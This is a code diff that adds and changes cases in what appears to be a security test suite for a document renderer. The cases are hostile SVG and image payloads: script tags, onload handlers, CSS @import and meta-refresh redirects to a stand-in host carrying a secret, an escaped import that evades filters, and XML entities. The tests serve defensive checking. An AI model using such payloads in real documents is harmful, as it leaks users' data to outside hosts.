@@ -174,11 +174,13 @@ ATTACKS = [
             ("svg-script", "evil.svg", "<script>"),
             ("svg-handler", "handler.svg", "onload"),
             ("svg-remote", "remote.svg", "a link"),
-            ("svg-style", "style.svg", "address"),
+            ("svg-style", "style.svg", "'@'"),
             ("svg-frame", "frame.svg", "foreignObject"),
+            ("svg-inside", "inside.svg", "<meta>"),
+            ("svg-escape", "escape.svg", "a style with"),
             ("svg-html", "html.svg", "no element <svg>"),
             ("svg-broken", "broken.svg", "XML"),
-            ("svg-entity", "entity.svg", "ENTITY"),
+            ("svg-entity", "entity.svg", "DOCTYPE"),
         ]
     ),
     Attack("picture-directive", "image", f"```{{image}} https://{EVIL}.example/x.png\n```"),
@@ -358,8 +360,11 @@ DRAWINGS = {
     "remote.svg": f'<svg {SVG}><image href="https://{SECRET}.example/x"/></svg>',
     "style.svg": f"<svg {SVG}><style>@import '//{SECRET}.example'</style></svg>",
     "frame.svg": f"<svg {SVG}><foreignObject>{SECRET}</foreignObject></svg>",
+    "inside.svg": f"<svg {SVG}><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh'"
+    f" content='0;url=//{SECRET}.example'/></svg>",
+    "escape.svg": f"<svg {SVG}><style>\\40 import '//{SECRET}.example'</style></svg>",
     "html.svg": f"<html><body>{SECRET}</body></html>",
-    "broken.svg": f"<svg {SVG}><b>{SECRET}",
+    "broken.svg": f"<svg {SVG}><g>{SECRET}",
     "entity.svg": f'<!DOCTYPE svg [<!ENTITY x "{SECRET}">]><svg {SVG}><text>&x;</text></svg>',
 }
 
